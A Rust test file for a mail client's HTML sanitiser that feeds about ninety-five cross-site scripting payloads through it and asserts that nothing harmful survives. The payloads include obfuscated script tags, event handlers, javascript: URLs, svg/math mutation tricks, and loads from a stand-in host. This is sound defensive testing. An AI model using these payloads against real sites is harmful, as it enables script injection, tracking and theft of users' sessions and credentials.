//! HTML of strangers that is shown: nothing in it runs, fetches, covers or submits (T5, layer A).

use std::fmt::Write;

use postern::mail::sanitize;

fn clean(page: &str) -> String {
    sanitize::html(page, |id| {
        (id == "logo@x").then(|| "/v1/attachments/att_1".to_owned())
    })
}

/// The tags of a page that a sanitiser wrote, each with its attributes; written without looking at
/// the code under test.
fn tags(page: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut found = Vec::new();
    let mut rest = page;
    while let Some((_, tag)) = rest.split_once('<') {
        let mut inside = String::new();
        let mut quoted = false;
        let mut length = tag.len();
        for (at, character) in tag.char_indices() {
            quoted ^= character == '"';
            if character == '>' && !quoted {
                length = at;
                break;
            }
            inside.push(character);
        }
        rest = tag.get(length + 1..).unwrap_or_default();
        let (name, mut list) = inside.split_once(' ').unwrap_or((&inside, ""));
        let mut attributes = Vec::new();
        while let Some((key, value)) = list.split_once("=\"") {
            let (value, behind) = value.split_once('"').expect("values are quoted");
            attributes.push((key.trim().to_owned(), value.to_owned()));
            list = behind;
        }
        assert!(
            list.trim().is_empty(),
            "an attribute without a value in {page}"
        );
        found.push((name.to_owned(), attributes));
    }
    found
}

const ELEMENTS: [&str; 51] = [
    "a",
    "abbr",
    "b",
    "big",
    "blockquote",
    "br",
    "caption",
    "center",
    "cite",
    "code",
    "col",
    "colgroup",
    "dd",
    "del",
    "div",
    "dl",
    "dt",
    "em",
    "font",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "img",
    "ins",
    "kbd",
    "li",
    "ol",
    "p",
    "pre",
    "q",
    "s",
    "samp",
    "small",
    "span",
    "strike",
    "strong",
    "sub",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "tr",
    "tt",
];

/// A page with the attributes of each tag in order.
fn sorted(page: &str) -> String {
    let mut out = String::new();
    let mut tags = tags(page).into_iter();
    for (at, piece) in page.split('<').enumerate() {
        if at == 0 {
            out.push_str(piece);
            continue;
        }
        let (name, mut attributes) = tags.next().expect("a tag for each bracket");
        attributes.sort();
        let (_, text) = piece.rsplit_once('>').expect("values have no brackets");
        write!(out, "<{name} {attributes:?}>{text}").unwrap();
    }
    out
}

/// Panics unless nothing in a page can do harm.
fn must_be_harmless(page: &str, payload: &str) {
    for (name, attributes) in tags(page) {
        let known = name.trim_start_matches('/');
        assert!(
            ELEMENTS.contains(&known) || ["u", "ul", "wbr"].contains(&known),
            "{name} in {page} of {payload}"
        );
        for (key, value) in attributes {
            let fault = format!("{key}={value} in {page} of {payload}");
            let plain = value.replace("&amp;", "&").to_ascii_lowercase();
            let squeezed: String = plain
                .chars()
                .filter(|c| !c.is_whitespace() && !c.is_control())
                .collect();
            assert!(!key.starts_with("on"), "{fault}");
            assert!(
                ![
                    "id",
                    "name",
                    "class",
                    "srcset",
                    "action",
                    "formaction",
                    "background",
                    "xlink:href"
                ]
                .contains(&key.as_str()),
                "{fault}"
            );
            assert!(
                !squeezed.contains("javascript:") && !squeezed.contains("vbscript:")
                    || key == "alt",
                "{fault}"
            );
            match key.as_str() {
                "href" => assert!(
                    ["http:", "https:", "mailto:"]
                        .iter()
                        .any(|s| squeezed.starts_with(s)),
                    "{fault}"
                ),
                "src" => assert_eq!(value, "/v1/attachments/att_1", "{fault}"),
                "style" => {
                    for word in [
                        "position",
                        "url",
                        "expression",
                        "behavior",
                        "z-index",
                        "import",
                        "\\",
                        "top:",
                        "opacity",
                    ] {
                        assert!(!squeezed.contains(word), "{fault}");
                    }
                }
                _ => {}
            }
        }
        if name == "a" {
            assert!(
                page.contains("rel=\"noopener noreferrer nofollow\""),
                "{page}"
            );
        }
    }
}

const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)//",
    "<img/src/onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\" />",
    "<img src='x'onerror='alert(1)'>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=javascript:alert(1)>",
    "<img src=cid:logo@x onload=alert(1)>",
    "<img src=\"cid:other\" srcset=\"https://evil.example/a 2x\">",
    "<img src=https://evil.example/track.gif>",
    "<img src=//evil.example/track.gif>",
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<img lowsrc=https://evil.example/x dynsrc=https://evil.example/y>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61vascript:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\" \u{1}javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=\"blob:https://x/1\">x</a>",
    "<a href=\"cid:logo@x\">x</a>",
    "<a href=\"/v1/keys\">x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<a href=\"https://bank.example\" onclick=alert(1) target=_self rel=opener ping=https://evil.example>x</a>",
    "<a href=\"https://x.example\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</a>",
    "<div style=\"background:url(https://evil.example/x)\">x</div>",
    "<div style=\"background-color:red;background-image:url('javascript:alert(1)')\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<div style=\"color:red;position:absolute\">x</div>",
    "<div style=\"pos\\ition:fixed\">x</div>",
    "<div style=\"p/**/osition:fixed\">x</div>",
    "<div style=\"behavior:url(x.htc);-moz-binding:url(x)\">x</div>",
    "<div style='color:red\"onmouseover=\"alert(1)'>x</div>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style><img src=x onerror=alert(1)></style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<textarea></textarea><script>alert(1)</script>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=data:text/html,x><embed src=x></object>",
    "<applet code=x></applet><frameset><frame src=x></frameset>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><rect/></a>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href=javascript:alert(1)?>",
    "<p title=\"a>b\" onclick=alert(1)>x</p>",
    "<div id=cookie name=getElementById class=admin>x</div>",
    "<table background=javascript:alert(1)><td background=https://evil.example/x>x",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x",
    "<b onmouseover=alert(1)>x</b>",
    "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<p/onclick=alert(1)/a=b>x",
    "<a href=\"https://x.example/\"\" onclick=\"alert(1)\">x</a>",
    "\u{0}<\u{0}script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E &lt;script&gt;alert(1)&lt;/script&gt;",
    "<font color=\"red&quot; onclick=&quot;alert(1)\">x</font>",
    "<dialog open>x</dialog><portal src=https://evil.example>",
    "<body onload=alert(1) background=https://evil.example/x>x",
    "<html manifest=https://evil.example/x><head profile=x>",
    "<a href=\"mailto:a@x.example?body=<script>alert(1)</script>\">x</a>",
];

#[test]
fn t05_nothing_harmful_is_left_of_any_payload() {
    assert!(PAYLOADS.len() >= 60);
    for payload in PAYLOADS {
        must_be_harmless(&clean(payload), payload);
        must_be_harmless(
            &clean(&format!("<div><p>before{payload}</p>after</div>")),
            payload,
        );
        must_be_harmless(&clean(&format!("<table><tr><td>{payload}")), payload);
        must_be_harmless(&clean(&format!("<b title=\"{payload}\">x</b>")), payload);
    }
}

#[test]
fn t05_pairs_of_payloads_do_not_help_each_other() {
    for one in PAYLOADS {
        for other in PAYLOADS.iter().step_by(5) {
            let both = format!("{one}{other}");
            must_be_harmless(&clean(&both), &both);
        }
    }
}

#[test]
fn t05_cleaning_what_is_clean_changes_nothing() {
    for payload in PAYLOADS {
        let again = |page: String| {
            page.replace("/v1/attachments/att_1", "cid:logo@x")
                .replace("data-remote-src", "src")
        };
        let once = again(clean(payload));
        assert_eq!(sorted(&again(clean(&once))), sorted(&once), "{payload}");
    }
}

#[test]
fn t05_what_is_harmless_stays() {
    for (page, expected) in [
        (
            "<p>Hello <b>you</b> &amp; me</p>",
            "<p>Hello <b>you</b> &amp; me</p>",
        ),
        ("a < b > c", "a &lt; b &gt; c"),
        ("<ul><li>a<li>b</ul>", "<ul><li>a</li><li>b</li></ul>"),
        ("<p>a<p>b", "<p>a</p><p>b</p>"),
        (
            "<img src=\"cid:logo@x\" alt=Logo width=10>",
            "<img src=\"/v1/attachments/att_1\" alt=\"Logo\" width=\"10\">",
        ),
        (
            "<img src=\"https://x.example/a.png\">",
            "<img data-remote-src=\"https://x.example/a.png\">",
        ),
        (
            "<a href=\"https://x.example/a?b=1&amp;c=2\">bank.example</a>",
            "<a href=\"https://x.example/a?b=1&amp;c=2\" title=\"x.example\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">bank.example</a>",
        ),
        (
            "<span style=\"color: red; position: fixed\">x</span>",
            "<span>x</span>",
        ),
        (
            "<blockquote type=cite>x</blockquote>",
            "<blockquote>x</blockquote>",
        ),
        (
            "<html><head><title>t</title></head><body bgcolor=red>x</body></html>",
            "x",
        ),
        ("<o:p>x</o:p><center>y</center>", "x<center>y</center>"),
    ] {
        assert_eq!(sorted(&clean(page)), sorted(expected), "{page}");
    }
    let styled = clean("<span style=\"color:red;font-weight:bold\">x</span>");
    assert!(
        styled.contains("color") && styled.contains("font-weight"),
        "{styled}"
    );
}

#[test]
fn t05_a_link_shows_its_true_host() {
    let page = clean(
        "<a href=\"https://bank.example@evil.example/\" title=\"https://bank.example\">bank.example</a>",
    );
    assert!(page.contains("title=\"evil.example\""), "{page}");
}
